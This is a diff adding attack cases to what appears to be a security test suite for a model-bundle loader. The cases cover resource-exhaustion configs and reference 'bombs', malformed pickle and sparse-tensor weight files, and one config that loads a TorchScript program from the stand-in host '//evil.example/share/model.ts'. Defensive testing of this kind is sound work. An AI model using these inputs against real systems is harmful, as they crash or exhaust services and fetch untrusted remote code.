@@ -473,6 +473,17 @@ _ARGUMENTS: dict[str, Any] = {
     "program_object": {"_target_": "torch.jit.load", "f": ["models/model.pt"]},
     "many_channels": {**_NET, "channels": [10**9, 10**9]},
     "many_units": {**_NET, "num_res_units": 10**9},
+    "size_without_trial": {
+        "_target_": "SwinUNETR", "in_channels": 1, "out_channels": 2, "feature_size": 4800, "depths": [1, 1, 1, 1],
+        "num_heads": [1, 1, 1, 1],
+    },
+    "many_networks": {
+        **_NET, "_requires_": [{"_target_": "torch.nn.Linear", "in_features": 16000, "out_features": 16000}] * 9,
+    },
+    "many_blocks": {
+        "_target_": "EfficientNet", "blocks_args_str": ["r30000_k3_s11_e1_i8_o8_se0.25"], "in_channels": 1,
+        "num_classes": 2,
+    },
     "large_network": {**_NET, "channels": [16000, 16000, 16000], "strides": [2, 2]},
 }  # fmt: skip
 for _name, _component in _ARGUMENTS.items():
@@ -480,6 +491,24 @@ for _name, _component in _ARGUMENTS.items():
 _config_attack(
     "argument_window",
     {"inferer": {"_target_": "SlidingWindowInferer", "roi_size": [4000, 4000, 4000], "cache_roi_weight_map": True}},
+)
+
+_config_attack(
+    "argument_fine_spacing",
+    {"preprocessing": {"_target_": "Compose", "transforms": [{"_target_": "Spacingd", "keys": "a", "pixdim": 1e-7}]}},
+)
+_config_attack(
+    "argument_large_image",
+    {
+        "preprocessing": {
+            "_target_": "Compose",
+            "transforms": [{"_target_": "SpatialPadd", "keys": "a", "spatial_size": [9000, 9000, 9000]}],
+        }
+    },
+)
+_config_attack(
+    "argument_program_on_another_computer",
+    {"network_def": {"_target_": "torch.jit.load", "f": "//evil.example/share/model.ts"}},
 )
 
 # --- size and depth ---
@@ -499,6 +528,25 @@ _config_attack(
 _config_attack(
     "bomb_copies",
     {"d0": [1, 2], **{f"d{n}": [f"%d{n - 1}", f"%d{n - 1}"] for n in range(1, 40)}, "network_def": "@d39"},
+)
+_config_attack(
+    "bomb_doubling_path",
+    {"p0": "aaaa", **{f"p{n}": f"$os.path.join(@p{n - 1}, @p{n - 1})" for n in range(1, 59)}, "network_def": "@p58"},
+)
+_config_attack("bomb_relative_ids", {"k" * 200_000: {"a": {"b": "$" + "@##" * 20_000}}})
+_config_attack(
+    "bomb_missing_references",
+    {**{f"k{n}": 0 for n in range(20_000)}, "network_def": {**_NET, "dropout": [f"@m{n}" for n in range(20_000)]}},
+)
+_config_attack(
+    "bomb_aliases",
+    {
+        "l": [[[[0] * 30_000]]],
+        "network_def": {
+            **_NET,
+            "dropout": [f"@l::{'0' * (n % 8 + 1)}::{'0' * (n // 8 % 8 + 1)}::{'0' * (n // 64 + 1)}" for n in range(512)]
+        },
+    },
 )
 _config_attack("bomb_copy_of_itself", {"network_def": {**_NET, "dropout": "%network_def"}})
 _config_attack("bomb_circle", {"network_def": "@one", "one": "$@two", "two": ["@one"]})
@@ -660,6 +708,17 @@ def _zip_before_pickle(canary: Path) -> bytes:
     return state_dict_bytes() + _plain_pickle(canary)
 
 
+def _sparse(canary: Path) -> bytes:
+    """A tensor whose indices lead out of it."""
+    import torch
+
+    buffer = io.BytesIO()
+    indices = torch.tensor([[10**9]])
+    tensor = torch.sparse_coo_tensor(indices, torch.ones(1), (2 * 10**9,), check_invariants=True)
+    torch.save({"a": tensor}, buffer)
+    return buffer.getvalue()
+
+
 def _two_pickles(canary: Path) -> bytes:
     buffer = io.BytesIO(state_dict_bytes())
     with zipfile.ZipFile(buffer, "a") as archive:
@@ -689,6 +748,8 @@ _weights_attack("pickle_before_zip", "model.pt", lambda canary: _plain_pickle(ca
 _weights_attack("zip_before_pickle", "model.pt", lambda canary: _saved(canary) + _plain_pickle(canary))
 _weights_attack("two_pickles", "model.pt", _two_pickles)
 _weights_attack("zip_bomb", "model.pt", _weights_bomb)
+_weights_attack("pickle_steps", "model.pt", lambda canary: b"\x80\x02" + b"N0" * (8 << 20) + b"N.")
+_weights_attack("sparse", "model.pt", _sparse)
 _weights_attack("header_size", "model.safetensors", lambda canary: struct.pack("<Q", 2**62) + b"{" + bytes(100))
 
 
